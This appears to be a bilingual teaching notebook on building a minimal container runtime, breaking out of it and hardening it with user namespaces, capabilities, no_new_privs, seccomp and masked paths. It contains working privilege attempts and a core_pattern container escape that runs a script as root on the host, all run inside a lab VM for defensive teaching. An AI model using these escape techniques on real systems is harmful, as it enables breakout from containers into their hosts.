# ---
# jupyter:
#   cloudlab:
#     title: {en: "A container from scratch", zh: "从零打造一个容器"}
#     minutes: 45
#     partly: ["3.04"]
#     ids: ["3.02", "3.03"]
#     needs: ["3-containers/01-namespaces", "3-containers/02-cgroups", "3-containers/03-rootfs"]
# ---

# %% [markdown] lang="en"
# # A container from scratch
#
# In 45 minutes you will have written a container runtime of forty lines, broken out of it, walled it in, and then done with a real one what Docker is for: package once, ship anywhere.
#
# You need the three lessons before: namespaces, control groups, the root file system. Contents: forty lines · inside and outside · seven attempts · the break-out · five walls · the library · its life · `crun` · an image built, pushed, pulled · one kernel · exercises.

# %% [markdown] lang="zh" of="6176e21d"
# # 从零打造一个容器
#
# 四十五分钟后，你会写出一个四十行的容器运行时，从里面逃出来，再给它砌上围墙；然后用一个真正的运行时做 Docker 所做的事：一次打包，到处运行。
#
# 需要前三课：命名空间、控制组、根文件系统。内容：四十行 · 里面与外面 · 七次尝试 · 越狱 · 五道墙 · 函数库 · 容器的一生 · `crun` · 镜像的构建、推送和拉取 · 同一个内核 · 练习。

# %% [markdown] lang="en"
# **You will do:** write the system calls that make a container, attack it, find the smallest set of walls that holds, stop a program that does not want to end, send an image to another computer.
#
# **You will learn** the words *runtime*, *escape*, *capability*, *no_new_privs*, *seccomp*, *masked path*, *bundle*, *layer cache*, *registry*, *push*, *pull*. Where you see `...`, write your own answer in its place.

# %% [markdown] lang="zh" of="ff766e4e"
# **你要做的：** 写出造容器的系统调用，攻击它，找出守得住的最小围墙组合，停掉一个不肯结束的程序，把镜像送到另一台计算机。
#
# **你会学到** 这些词：*运行时 (runtime)*、*逃逸 (escape)*、*权能 (capability)*、*no_new_privs*、*seccomp*、*屏蔽路径 (masked path)*、*运行包 (bundle)*、*层缓存 (layer cache)*、*镜像仓库 (registry)*、*推送 (push)*、*拉取 (pull)*。看到 `...` 的地方，换成你自己的答案。

# %%
import errno, json, tempfile
from collections import Counter
from pathlib import Path
from cloudlab import Clone, Lab, Lesson, Rootfs, show_source
from cloudlab.containers import capabilities, identity, logs, plan, seccomp
from cloudlab.containers.calls import Answer, Calls, Room, Words, make
from cloudlab.containers.layerstore import Layers
from cloudlab.containers.namespaces import KINDS, compare, enter, namespaces_of
from cloudlab.containers.rootfs import enter_root
from cloudlab.containers.supervisor import Health
from cloudlab.containers.syscalls import Mount, Open, Prctl
from cloudlab.images import ImageStore

# %%
lesson = Lesson("3-containers/04-container-from-scratch")
lab = Lab(accelerator="tcg")
n1 = lab.machine("n1")
Layers(n1).add("base", ImageStore().rootfs("busybox"))
files = Rootfs(n1, ["base"], "box")  # the three layers of the last lesson, not mounted yet
GROUP, LOG = "/sys/fs/cgroup/box", "/run/box.log"

# %% [markdown] lang="en"
# ## Forty lines
#
# A container is a process that has three things of its own:
# ```mermaid
# flowchart LR
#   accTitle: What a container is
#   accDescr: A process with new namespaces, which decide what it sees, a control group, which decides what it may use, and a root, which holds its files. All three are given by the one kernel of the host.
#   p["a process"] --> ns["namespaces: what it sees"]
#   p --> cg["a control group: what it may use"]
#   p --> root["a root: its files"]
#   ns & cg & root --> kernel["one kernel, the host's"]
# ```
# Now write it, as a program of system calls. First what it may use, and the stack of its files:

# %% [markdown] lang="zh" of="0121202c"
# ## 四十行
#
# 容器就是一个进程，它有三样自己的东西：
# ```mermaid
# flowchart LR
#   accTitle: 容器是什么
#   accDescr: 一个进程，带有新的命名空间（决定它看见什么）、一个控制组（决定它能用多少）和一个根（存放它的文件）。三者都由宿主机的同一个内核提供。
#   p["一个进程"] --> ns["命名空间：看见什么"]
#   p --> cg["控制组：能用多少"]
#   p --> root["根：它的文件"]
#   ns & cg & root --> kernel["同一个内核，宿主机的"]
# ```
# 现在把它写成一个由系统调用组成的程序。先写它能用多少资源，再写它的文件叠层：

# %%
def limits(calls):
    calls.write_file("/sys/fs/cgroup/cgroup.subtree_control", "+memory +pids")
    calls.call("mkdir", GROUP, 0o755, harmless=[errno.EEXIST])
    calls.write_file(f"{GROUP}/memory.max", "32M")
    calls.write_file(f"{GROUP}/pids.max", "16")
    return calls.call("open", GROUP, Open.RDONLY | Open.DIRECTORY | Open.CLOEXEC)

def stack(calls):
    calls.call("unshare", Clone.NEWNS)  # what is mounted here is seen by nobody else
    calls.call("mount", "", "/", "", Mount.REC | Mount.PRIVATE, 0)
    files.overlay.add_mount(calls, files.merged)

# %% [markdown] lang="en"
# `clone3` makes the child: in new namespaces, born in the group. It gives itself a name and a root, and `execve` turns it into the program. (`walls` and `born` are for later.)

# %% [markdown] lang="zh" of="21c32d69"
# `clone3` 造出子进程：它在新的命名空间里，生来就在这个组中。它给自己起名、换根，最后 `execve` 把它变成要运行的程序。（`walls` 和 `born` 以后才用到。）

# %%
SIX = Clone.NEWPID | Clone.NEWNS | Clone.NEWUTS | Clone.NEWIPC | Clone.NEWNET | Clone.NEWCGROUP

def plain(calls, group):
    return calls.child(SIX, group)

def root(inside, path=files.merged):
    inside.call("sethostname", "box", 3)
    inside.call("mount", path, path, "", Mount.BIND | Mount.REC, 0)  # a mount of its own
    inside.call("mount", "proc", f"{path}/proc", "proc", 0, 0)
    inside.call("mount", "tmpfs", f"{path}/tmp", "tmpfs", 0, 0)
    enter_root(inside, path)  # pivot_root, and the old root is let go

# %%
def container(command, walls=(), born=plain):
    calls = Calls()
    log = calls.call("open", LOG, Open.WRONLY | Open.CREAT | Open.TRUNC, 0o600)
    stack(calls)
    init, inside = born(calls, limits(calls))
    for end in (1, 2):
        inside.call("dup2", log, end)  # what it prints goes into the log
    root(inside)
    for wall in walls:
        wall(inside)
    inside.call("execve", "/bin/sh", ["sh", "-c", command], ["PATH=/bin"])
    return calls, init

# %% [markdown] lang="en"
# **Predict:** how many system calls does a container take?

# %% [markdown] lang="zh" of="15db6eea"
# **预测：** 造一个容器要多少个系统调用？

# %%
how_many = ...
lesson.predict(1, how_many)

# %%
calls, init = container("exec sleep 1000")
print("\n".join(line[:92] for line in str(calls).splitlines()))
lesson.check(1, how_many, measured=len(list(calls)))

# %% [markdown] lang="en"
# Printed like the output of `strace`; indented is what the child does. Nothing has happened yet: `make` has it made by a small process in `n1`.
#
# ## Inside and outside
#
# From outside, your container is one process among many. From inside, it is a computer:

# %% [markdown] lang="zh" of="9cd2bade"
# 打印出来就像 `strace` 的输出；缩进的部分由子进程执行。到现在为止什么都还没发生：`make` 让 `n1` 里的一个小进程去执行它。
#
# ## 里面与外面
#
# 从外面看，你的容器只是众多进程中的一个。从里面看，它是一台计算机：

# %%
made = make(n1, calls)
print("calls that failed:", [str(each) for each in made.values() if each.error])
pid = made[init.index].returned
print(n1.succeed(f"ps -o user,args -p {pid}; cat /proc/{pid}/cgroup"))
same = compare(namespaces_of(n1, pid), namespaces_of(n1))
print("of its own:", *[kind for kind in KINDS if not same[kind]])
print(enter(n1, pid).run("hostname; ps -o pid,args | head -2; ls -C /; cat /proc/1/cgroup").stdout)
n1.succeed(f"kill -KILL {pid}")

# %% [markdown] lang="en"
# To try commands in new containers, `run` also waits for the end and shows the log. **Predict:** its group may have 32 MiB. A shell doubles a text for ever. What becomes of it: `"it waits"`, `"it is killed"` or `"it gets more"`?

# %% [markdown] lang="zh" of="fe44d39c"
# 为了在新容器里试命令，`run` 还会等它结束并给出日志。**预测：** 它的组最多用 32 MiB。一个 shell 把一段文字不停地加倍。它会怎样：`"it waits"`（等待）、`"it is killed"`（被杀掉）还是 `"it gets more"`（得到更多内存）？

# %%
becomes = ...
lesson.predict(2, becomes)

# %%
def run(command, **how):
    calls, init = container(command, **how)
    calls.call("wait4", init, 0, 0, 0)
    make(n1, calls)
    return n1.succeed(f"cat {LOG}").strip()

print(run("sh -c 'x=x; while :; do x=$x$x; done'; echo exit status $?"))
print(n1.succeed(f"grep oom_kill {GROUP}/memory.events"))
lesson.check(2, becomes)

# %% [markdown] lang="en"
# ## Seven attempts
#
# It looks like a computer of its own. Is it a *safe* one? Its root is the real root, with all powers; it only *sees* less. Seven attempts, all harmless here:
#
# - `log`: read the kernel's log · `setting`: change a setting of the kernel
# - `memory`: make a device file for the computer's memory, and read it · `kcore`: read the kernel's memory in /proc
# - `limit`: mount the control groups, and lift its own limit
# - `again`: become root in one more user namespace, and so reach more of the kernel
# - `su`: as user nobody, run a set-user-ID program and become root (in this image root has no password)

# %% [markdown] lang="zh" of="71406760"
# ## 七次尝试
#
# 它看上去像一台独立的计算机。但它*安全*吗？里面的 root 就是真正的 root，拥有全部权力；只是*看见*的少些。下面七次尝试在这里都是无害的：
#
# - `log`：读内核日志 · `setting`：改内核设置
# - `memory`：为计算机的内存建一个设备文件，然后读它 · `kcore`：在 /proc 里读内核的内存
# - `limit`：挂载控制组文件系统，取消对自己的限制
# - `again`：在又一个用户命名空间里成为 root，从而接触到内核的更多部分
# - `su`：以 nobody 用户的身份运行一个 set-user-ID 程序，变成 root（这个镜像里 root 没有密码）

# %%
passwd = f"{files.upper}/etc/passwd"
n1.succeed(f"mkdir -p -m 755 {files.upper}/etc; echo root::0:0::/:/bin/sh > {passwd}")
n1.succeed(f"echo nobody:x:65534:65534::/:/bin/sh >> {passwd}; chmod 644 {passwd}")
attempts = {
    "log": "dmesg | grep -q Linux",
    "setting": "echo 7 > /proc/sys/kernel/panic",
    "memory": "mknod /dev/mem c 1 1; head -c 9 /dev/mem > /tmp/copy",
    "kcore": "head -c 4 /proc/kcore | grep -q ELF",
    "limit": "mkdir /tmp/g; mount -t cgroup2 g /tmp/g && echo max > /tmp/g/memory.max",
    "again": "unshare --user --map-root-user true",
    "su": "cp /bin/busybox /tmp/su; chmod 4755 /tmp/su; su -s /bin/sh nobody -c '/tmp/su -c id'",
}

# %% [markdown] lang="en"
# **Predict:** how many of the seven succeed?

# %% [markdown] lang="zh" of="b551fbdd"
# **预测：** 七次里有几次成功？

# %%
succeed = ...
lesson.predict(3, succeed)

# %%
def gets_in(what, **how):
    return run(f"({attempts[what]}) 2>&1 && echo GOT IN", **how).endswith("GOT IN")

for what in attempts:
    print(f"{what:8}", "gets in" if gets_in(what) else "stopped")
lesson.check(3, succeed)

# %% [markdown] lang="en"
# One setting is enough to leave altogether. When a program crashes, the kernel can start another one to collect its memory: which, says /proc/sys/kernel/core_pattern. The *kernel* starts it, and the kernel is in no container. The path of our `upper` stands in /proc/mounts.
#
# **Predict:** the container points the kernel at its file `/out`, then crashes a shell. `/out` writes the host name to `/escaped`. What is in that file on `n1`: `"box"`, `"n1"` or `"no such file"`?

# %% [markdown] lang="zh" of="b723c60c"
# 只要一个设置就足以彻底逃出去。程序崩溃时，内核可以启动另一个程序来收集它的内存；启动哪个，由 /proc/sys/kernel/core_pattern 决定。启动它的是*内核*，而内核不在任何容器里。我们的 `upper` 的路径就写在 /proc/mounts 里。
#
# **预测：** 容器让内核指向自己的文件 `/out`，然后让一个 shell 崩溃。`/out` 把主机名写进 `/escaped`。`n1` 上的这个文件里是什么：`"box"`、`"n1"` 还是 `"no such file"`（没有这个文件）？

# %%
escaped = ...
lesson.predict(4, escaped)

# %%
run(r"""
upper=$(grep -o 'upperdir=[^,]*' /proc/mounts | cut -d= -f2)
printf '#!/bin/sh\n(hostname; id -un) > /escaped\n' > /out; chmod +x /out
echo "|$upper/out" > /proc/sys/kernel/core_pattern
sh -c 'kill -SEGV $$'
""")
print(n1.wait_until_succeeds("grep -q root /escaped && cat /escaped", timeout_s=10))
n1.succeed("echo core > /proc/sys/kernel/core_pattern; rm /escaped")
lesson.check(4, escaped)

# %% [markdown] lang="en"
# An *escape*: root of the guest, among the guest's own files. Namespaces hide; they do not forbid.
#
# ## Five walls
#
# Each wall is a few more calls before `execve`. *Users*: a user namespace, so that root inside is user 100000 outside. The parent writes the map; until then the child waits at a pipe.

# %% [markdown] lang="zh" of="3381db51"
# 这就是*逃逸*：身份是客户机的 root，面前是客户机自己的文件。命名空间只是隐藏，并不禁止。
#
# ## 五道墙
#
# 每道墙都是 `execve` 之前的几个调用。*users*：用户命名空间，里面的 root 在外面是 100000 号用户。映射由父进程来写；写好之前，子进程在一根管道上等着。

# %%
def mapped(calls, group):
    go = calls.call("pipe2", Room(8, whole=True), Open.CLOEXEC)
    init, inside = calls.child(SIX | Clone.NEWUSER, group)
    inside.call("close", Answer(go, 4))
    inside.call("read", Answer(go, 0), Room(1), 1)  # waits for the end of the pipe
    for file in ("uid_map", "gid_map"):
        calls.write_file(Words(f"/proc/%d/{file}", init), "0 100000 65536\n")
    calls.call("close", Answer(go, 4))
    inside.call("setresgid", 0, 0, 0)
    inside.call("setresuid", 0, 0, 0)
    return init, inside

# %% [markdown] lang="en"
# *Caps*: root's power comes in 41 parts, *capabilities*; most are dropped. *Nnp* (no_new_privs): no program that is executed may get more than its caller has. *Filters*: a *seccomp* program in the kernel looks at each system call and refuses some. *Paths*: parts of /proc are made read-only, or *masked* by an empty file.

# %% [markdown] lang="zh" of="6814ece9"
# *caps*：root 的权力分成 41 份，叫*权能 (capability)*，大部分都扔掉。*nnp* (no_new_privs)：执行任何程序都不能得到比调用者更多的权力。*filters*：内核里的一段 *seccomp* 程序检查每个系统调用，拒绝其中一些。*paths*：/proc 的一些部分变成只读，或者用空文件*屏蔽*掉。

# %%
def caps(inside):
    capabilities.add_bounding(inside, capabilities.DEFAULT_SETS)
    capabilities.add_sets(inside, capabilities.DEFAULT_SETS)

def nnp(inside):
    inside.call("prctl", Prctl.SET_NO_NEW_PRIVS, 1, 0, 0, 0)

def filters(inside):
    seccomp.add(inside, seccomp.DEFAULT_PROFILE)

# %%
def paths(inside):
    inside.call("mount", "/proc/sys", "/proc/sys", "", Mount.BIND | Mount.REC, 0)
    again = Mount.REMOUNT | Mount.BIND | Mount.RDONLY
    inside.call("mount", "", "/proc/sys", "", again, 0)
    inside.call("mknod", "/tmp/empty", 0o100000, 0)
    inside.call("mount", "/tmp/empty", "/proc/kcore", "", Mount.BIND, 0)

for name in ("CAP_SYSLOG", "CAP_CHOWN"):
    print(capabilities.explain(name))
print("the filter refuses unshare:", seccomp.denied(seccomp.DEFAULT_PROFILE)["unshare"])

# %% [markdown] lang="en"
# **Predict:** with the user namespace *alone*, how many of the seven attempts still get in?

# %% [markdown] lang="zh" of="6b303bb0"
# **预测：** *只有*用户命名空间这一道墙时，七次尝试中还有几次成功？

# %%
still_in = ...
lesson.predict(5, still_in)

# %%
def behind(names):
    chosen = [wall for wall in (paths, caps, nnp, filters) if wall.__name__ in names]
    return dict(walls=chosen, born=mapped if "users" in names else plain)

walls = ["users", "caps", "nnp", "filters", "paths"]
print(f"{'':8} {'none':8}", *(f"{wall:8}" for wall in walls), "all five")
for what in attempts:
    row = [gets_in(what, **behind(names)) for names in ([], *([wall] for wall in walls), walls)]
    print(f"{what:8}", *(f"{'gets in' if each else '-':8}" for each in row))
lesson.check(5, still_in)

# %% [markdown] lang="en"
# No wall stops everything, and nearly every attempt is stopped twice: where one wall has a hole, the next one stands.
#
# **Exercise.** Which is the *smallest* set of walls that stops all seven? Write a set of names; the cell tries it.

# %% [markdown] lang="zh" of="12459904"
# 没有一道墙能挡住一切，而几乎每种尝试都被挡了两次：一道墙有洞，后面还有一道。
#
# **练习。** 能挡住全部七次尝试的*最小*围墙组合是什么？写一个名字的集合；单元会试给你看。

# %%
smallest = ...
if smallest is not ...:
    print("get in:", [what for what in attempts if gets_in(what, **behind(smallest))])
lesson.check(6, smallest)

# %% [markdown] lang="en"
# ## The library's container
#
# Ours is built of the same calls, with all five walls on unless you say otherwise. Now you write one line:

# %% [markdown] lang="zh" of="6b96c68c"
# ## 函数库的容器
#
# 我们的函数库用的是同样的调用，五道墙默认全部打开。现在你只要写一行：

# %%
sleep = ["sleep", "1000"]
web = n1.container("web", command=sleep, memory="32M", cpus=0.5, network="none")
print(web)
print(web.exec("hostname; ps -o pid,user,args | head -2"))
print("processes:", web.stats().pids)
print("its root is, outside, user", n1.succeed(f"stat -c %u /proc/{web.pid}"))
print(n1.succeed("cd /sys/fs/cgroup/cloudlab/web; cat memory.max cpu.max"))

# %% [markdown] lang="en"
# `steps` are the system calls that it took. What you know by name does most of the work; what is new drops and hides:

# %% [markdown] lang="zh" of="b2d0d2f3"
# `steps` 是它用到的系统调用。大部分工作由你已经认识的调用完成；新的那些在丢弃权力、隐藏东西：

# %%
taken = Counter(step.call.name for step in web.steps)
print("over 200 calls:", len(web.steps) > 200)
for name in ("clone3", "sethostname", "pivot_root", "mount", "mkdir", "prctl", "capset", "seccomp"):
    print(f"{taken[name]:4}  {name}")
show_source(identity.add_identity, plan.execution)

# %% [markdown] lang="en"
# Why does `add_identity` have this order? Each step takes away a right, which the steps after it must not need. And `exec`, into a running container, is `setns` into its namespaces, and then the same identity.
#
# ## Its life
#
# `stop` sends SIGTERM, "please end", and after a time-out SIGKILL. Any `sleep` on your computer ends at once when asked. **Predict:** with which exit status does `web` end, whose program is `sleep`? (0: it ended by itself; 128 + N: signal N ended it. SIGTERM is 15, SIGKILL is 9.)

# %% [markdown] lang="zh" of="82c20eed"
# `add_identity` 为什么是这个顺序？每一步都拿走一项权利，而后面的步骤不能再需要它。要进入运行中的容器，`exec` 用 `setns` 进入它的命名空间，再取得同样的身份。
#
# ## 容器的一生
#
# `stop` 先发 SIGTERM（“请结束”），超时后再发 SIGKILL。你计算机上的任何 `sleep` 收到请求都会立刻结束。**预测：** `web` 的程序是 `sleep`，它的退出状态是多少？（0：自己结束；128 + N：被信号 N 结束。SIGTERM 是 15，SIGKILL 是 9。）

# %%
status = ...
lesson.predict(7, status)

# %%
ordinary = "sleep 1000 & kill -TERM $!; wait $!; echo $?"
print("an ordinary sleep:", n1.succeed(ordinary).strip())
print("handlers of web:  ", web.exec("grep SigCgt /proc/1/status").split()[1])
print("web:              ", web.stop(timeout_s=1.0))
lesson.check(7, status)

# %% [markdown] lang="en"
# **Exercise.** Write a command for a container that ends politely: asked to stop, it ends at once with exit status 5. (In a shell, `trap 'COMMAND' TERM` installs a handler; a trap runs between two short commands, not during a long one.)

# %% [markdown] lang="zh" of="ba0f6230"
# **练习。** 为容器写一条有礼貌的命令：要求它停止时，它立刻以退出状态 5 结束。（在 shell 里，`trap '命令' TERM` 安装处理函数；它在两条短命令之间执行，而不是在一条长命令的中途。）

# %%
def ends_with(command):
    with_it = n1.container(command=command, network="none")
    handler = "until grep -q 'SigCgt.*[4-7c-f]...$' /proc/1/status; do sleep 0.1; done"
    with_it.run(["timeout", "2", "sh", "-c", handler])  # gives it time to install one
    status = with_it.stop(timeout_s=5.0)
    with_it.remove()
    return status

command = ...
lesson.check(8, ... if command is ... else ends_with(command))

# %% [markdown] lang="en"
# What a program prints is kept as its log, and a *restart policy* says what happens when it ends. This one fails each time, and may be started again twice:

# %% [markdown] lang="zh" of="ae4cf0d0"
# 程序打印的内容保存为日志；*重启策略 (restart policy)* 决定它结束后怎么办。下面这个每次都失败，最多可以重启两次：

# %%
often = dict(restart="on-failure:2", network="none")
born_again = n1.container("phoenix", command="echo born; exit 3", **often)
log = "/run/cloudlab/containers/phoenix/log"
n1.wait_until_succeeds(f"test $(grep -c born {log}) = 3")
print("exit status", born_again.wait(), "- restarts:", born_again.restarts)
print(born_again.logs())

# %% [markdown] lang="en"
# Running is not the same as well. A *health check* is a command that is run inside again and again:

# %% [markdown] lang="zh" of="c5b7d67e"
# 在运行不等于健康。*健康检查 (health check)* 是在容器里反复运行的一条命令：

# %%
asked = "echo asked >> /tmp/asked; test -e /tmp/good"
check = Health(["sh", "-c", asked], every_s=0.2, retries=2)
shop = n1.container("shop", command=sleep, network="none", health=check)
three = "rm -f /tmp/asked; until [ $(grep -c . /tmp/asked) -gt 2 ]; do sleep 0.1; done 2>&-"
shop.exec(three)
print("after three questions:", shop.health)
shop.exec("touch /tmp/good; " + three)
print("after three more:     ", shop.health)
print("its memory is under 2 MiB:", shop.stats().memory < 2 << 20)

# %% [markdown] lang="en"
# ## The same by `crun`
#
# What a container is to be can be written down: a *bundle* is a directory with a root and a `config.json`, by the rules of the Open Container Initiative (OCI). Docker, Podman and Kubernetes hand bundles to a runtime such as `crun`, which is in `n1`. Ours reads the same file. Here is what `web` was:

# %% [markdown] lang="zh" of="09d43be9"
# ## 用 `crun` 做同样的事
#
# 容器应该是什么样，可以写下来：*运行包 (bundle)* 是一个目录，里面有根和一个 `config.json`，格式由开放容器倡议 (OCI) 规定。Docker、Podman 和 Kubernetes 把运行包交给 `crun` 这样的运行时；`n1` 里就有 `crun`。我们的函数库读的是同样的文件。下面就是 `web`：

# %%
config = web.state.config
print(*config["linux"], sep=", ")
look = "echo $(hostname), number $$, $(mount | wc -l) mounts; ls -C /dev; touch /x; exit 7"
facts = "dmesg; grep -E 'CapEff|NoNew|Seccomp:' /proc/self/status; "
config["process"]["args"] = ["sh", "-c", facts + look]
config["root"] = {"path": files.mount(), "readonly": True}
n1.succeed("mkdir /bundle")
n1.put("/bundle/config.json", json.dumps(config))
theirs = n1.run("crun run --bundle /bundle reference")
print(theirs.stdout + theirs.stderr + f"exit status {theirs.exit_status}")

# %%
runtime = n1.containers.runtime
runtime.create("ours", config, directory="/bundle", start=True)
print("the same exit status:", runtime.wait("ours") == theirs.exit_status)
for stream in ("stdout", "stderr"):
    printed = logs.printed(logs.parse(runtime.log("ours")), stream)
    print(f"the same {stream}:", printed == getattr(theirs, stream))
files.unmount()

# %% [markdown] lang="en"
# ## Package once
#
# Docker's idea: put a program into an image together with all that it needs. A *Containerfile* is the recipe; each `RUN` and `COPY` makes a layer.

# %% [markdown] lang="zh" of="ec55315f"
# ## 一次打包
#
# Docker 的主意：把程序和它需要的一切装进一个镜像。*Containerfile* 是配方；每条 `RUN` 和 `COPY` 产生一层。

# %%
kitchen = Path(tempfile.mkdtemp())
recipe = "FROM busybox\nRUN echo made by $(id -un) > /made\nCOPY greet /bin/greet\n"
(kitchen / "Containerfile").write_text(recipe + 'ENV WHOM=world\nCMD ["greet"]\n')

def build(words, tag):
    (kitchen / "greet").write_text(f"#!/bin/sh\ncat /made; echo {words} $WHOM\n")
    (kitchen / "greet").chmod(0o755)
    steps = []
    n1.containers.build(kitchen, tag, on_step=steps.append)
    layers = [step for step in steps if step.layer]
    return {step.instruction.name: "cached" if step.cached else "made" for step in layers}

# %%
print(build("hello,", "app:1"))
print(build("hello,", "app:1"), "the second time")
greeter = n1.container(image="app:1", network="none")
print(greeter.wait(), greeter.logs(), sep="\n")

# %% [markdown] lang="en"
# The second build did nothing: each layer is found by a hash of what it is made from, the *layer cache*. **Predict:** now `greet` says "good morning". Which of the two layers are made anew? A set of `"RUN"` and `"COPY"`. And if `COPY` stood *above* `RUN`?

# %% [markdown] lang="zh" of="ba5e4f75"
# 第二次构建什么都没做：每一层都按它的原料的哈希值查找，这就是*层缓存*。**预测：** 现在 `greet` 改说 “good morning”。两层中哪些要重做？写一个由 `"RUN"`、`"COPY"` 组成的集合。如果 `COPY` 写在 `RUN` *上面*呢？

# %%
made_anew = ...
lesson.predict(9, made_anew)

# %%
print(build("good morning,", "app:2"))
lesson.check(9, made_anew)

# %% [markdown] lang="en"
# ## Ship anywhere
#
# A *registry* keeps images for others. An image is a list of *blobs*: its layers, and a small configuration. **Predict:** we push `app:1`, then `app:2`. Of the four blobs of `app:2`, how many are sent?

# %% [markdown] lang="zh" of="f53cda26"
# ## 到处运行
#
# *镜像仓库 (registry)* 为大家保存镜像。一个镜像就是一串*数据块 (blob)*：它的各层，加一份小小的配置。**预测：** 先推送 `app:1`，再推送 `app:2`。`app:2` 的四个数据块中要发送几个？

# %%
blobs_sent = ...
lesson.predict(10, blobs_sent)

# %%
store = lab.registry.address
for tag in ("app:1", "app:2", "app:2"):
    pushed = n1.containers.push(f"{store}/{tag}")
    large = sum(blob.size for blob in pushed.sent) > 1e6
    print(f"{tag}: {len(pushed.sent)} sent, {len(pushed.there)} there | over 1 MB sent:", large)
lesson.check(10, blobs_sent)

# %% [markdown] lang="en"
# Another computer, which has never seen our program, and has nothing installed for it:

# %% [markdown] lang="zh" of="364012c6"
# 另一台计算机，从没见过我们的程序，也没有为它装过任何东西：

# %%
n2 = lab.machine("n2")
for tag in ("app:1", "app:2"):
    n2.containers.pull(f"{store}/{tag}")
    shipped = n2.container(image=f"{store}/{tag}", network="none")
    shipped.wait()
    kept = n2.succeed("ls /var/lib/cloudlab/layers | wc -l").strip()
    print(tag, "on n2:", shipped.logs().splitlines(), "| layers there:", kept)

# %% [markdown] lang="en"
# Two images of three layers each, and four layers in all: what they share is sent once, and kept once.
#
# ## One kernel
#
# Two containers with two images. Each brings its own environment, and neither brings a kernel:

# %% [markdown] lang="zh" of="7ff6aef0"
# 两个镜像各有三层，一共却只有四层：共有的只发送一次，只保存一份。
#
# ## 同一个内核
#
# 两个容器，两个镜像。各自带着自己的环境，谁也没带内核：

# %%
web.start()
app = n1.container("app", image="app:1", command=sleep, network="none")
releases = {c.exec("uname -r") for c in (web, app)}
print("kernel releases:", len(releases), "- the guest's:", releases == {n1.succeed("uname -r")})
for c in (web, app):
    print(f"{c.name}:", *c.exec("ls -d /m*; echo WHOM=$WHOM").split())

# %% [markdown] lang="en"
# Your seven attempts, and four more, against the library's:

# %% [markdown] lang="zh" of="93955e04"
# 用你的七次尝试，再加四次，攻击函数库的容器：

# %%
more = {"cgroup": "echo max > /sys/fs/cgroup/memory.max", "name": "hostname evil",
        "sysrq": "echo h > /proc/sysrq-trigger", "write": "touch /bin/evil"}
for what, attack in (attempts | more).items():
    result = web.run(attack)
    said = result.stderr.strip().splitlines() or ["nothing to be read"]
    print(f"{what:8}", "GETS IN" if result.ok else said[0])

# %% [markdown] lang="en"
# The walls hold. But some things are not behind walls, they are *shared*. **Predict:** the guest's administrator sets `vm.swappiness` to 7. Which containers see 7: `"neither"`, `"the newer one"` or `"both"`?

# %% [markdown] lang="zh" of="11e26f1e"
# 墙守住了。但有些东西不在墙后面，而是*共用*的。**预测：** 客户机的管理员把 `vm.swappiness` 设成 7。哪些容器看到 7：`"neither"`（都不）、`"the newer one"`（较新的那个）还是 `"both"`（两个都）？

# %%
see_it = ...
lesson.predict(11, see_it)

# %%
def swappiness():
    return {c.name: c.exec("cat /proc/sys/vm/swappiness").strip() for c in (web, app)}

print("before:", swappiness())
n1.succeed("echo 7 > /proc/sys/vm/swappiness")
print("after: ", swappiness())
lesson.check(11, see_it)

# %% [markdown] lang="en"
# That is the weak side of containers: one kernel means one set of its settings, and one set of its bugs. Two virtual machines have two kernels: `n2` still has its own value. The next lesson measures what that costs.
#
# ## Exercises
#
# 1. `privileged=True` is famous: it takes the walls away. How many of the *seven* attempts get in? Make such a container, count with `run(...).ok`.

# %% [markdown] lang="zh" of="bc21830b"
# 这就是容器的弱点：一个内核意味着只有一套设置，也只有一套漏洞。两台虚拟机有两个内核：`n2` 仍是自己的值。下一课会测量它的代价。
#
# ## 练习
#
# 1. `privileged=True` 很有名：它把墙拆掉。*七次*尝试中有几次成功？造一个这样的容器，用 `run(...).ok` 数一数。

# %%
print("n2:", n2.succeed("cat /proc/sys/vm/swappiness").strip())
privileged_in = ...
lesson.check(12, privileged_in)

# %% [markdown] lang="en"
# 2. Write a Containerfile of two lines whose image greets the *cloud* instead of the world, and needs no layer of its own. (`FROM` may name your `app:1`.) The judge builds it, runs it, and counts layers.

# %% [markdown] lang="zh" of="0779c980"
# 2. 写一个两行的 Containerfile：它的镜像问候的是 *cloud* 而不是 world，而且不需要自己的层。（`FROM` 可以写你的 `app:1`。）裁判会构建它、运行它，并数一数层数。

# %%
def greeting(recipe):
    (kitchen / "Containerfile").write_text(recipe)
    image = n1.containers.build(kitchen, "mine:1")
    c = n1.container(image="mine:1", network="none")
    c.wait()
    return [c.logs().splitlines()[-1], len(image.layers)]

recipe = ...
lesson.check(13, ... if recipe is ... else greeting(recipe))

# %% [markdown] lang="en"
# ## Summary
#
# A container is a process with its own namespaces, control group and root: about twenty-five system calls. They hide and limit; a root in them is still root. Five walls take that away: user namespace, capabilities, no_new_privs, seccomp, hidden paths.
# An image carries a program with its environment; layers make it cheap to build, send and keep. What stays common is the kernel.
#
# **Ask yourself:** why should the program in a container handle SIGTERM? Why do `COPY` lines stand low in a Containerfile? Would you run a stranger's program in a container? In a virtual machine?
#
# **Further reading:** the OCI runtime specification, *config.md*; `man 7 capabilities`, `man 2 seccomp`; Liz Rice, *Container Security* (2020).

# %% [markdown] lang="zh" of="12227f9c"
# ## 小结
#
# 容器就是一个有自己的命名空间、控制组和根的进程：大约二十五个系统调用。它们隐藏、限制；里面的 root 却仍是 root。五道墙夺走它的权力：用户命名空间、权能、no_new_privs、seccomp、屏蔽路径。
# 镜像把程序和环境装在一起；有了层，构建、发送、保存都很便宜。共用的是内核。
#
# **问问自己：** 为什么容器里的程序应该处理 SIGTERM？为什么 `COPY` 要写在 Containerfile 的下方？陌生人的程序，你敢放在容器里运行吗？放在虚拟机里呢？
#
# **延伸阅读：** OCI 运行时规范的 *config.md*；`man 7 capabilities`、`man 2 seccomp`；Liz Rice，*Container Security* (2020)。

# %% [markdown] lang="en"
# **Terms.** container 容器 · runtime 运行时 · escape 逃逸 · capability 权能 · system call filter 系统调用过滤器 · masked path 屏蔽路径 · exit status 退出状态 · restart policy 重启策略 · health check 健康检查 · bundle 运行包 · image 镜像 · layer cache 层缓存 · registry 镜像仓库 · push 推送 · pull 拉取 · privileged 特权的

# %% [markdown] lang="zh" of="13fd5b2d"
# **术语。** 容器 container · 运行时 runtime · 逃逸 escape · 权能 capability · 系统调用过滤器 system call filter · 屏蔽路径 masked path · 退出状态 exit status · 重启策略 restart policy · 健康检查 health check · 运行包 bundle · 镜像 image · 层缓存 layer cache · 镜像仓库 registry · 推送 push · 拉取 pull · 特权的 privileged

# %% [markdown] lang="en"
# How far did you get?

# %% [markdown] lang="zh" of="270a965f"
# 你做到了多少？

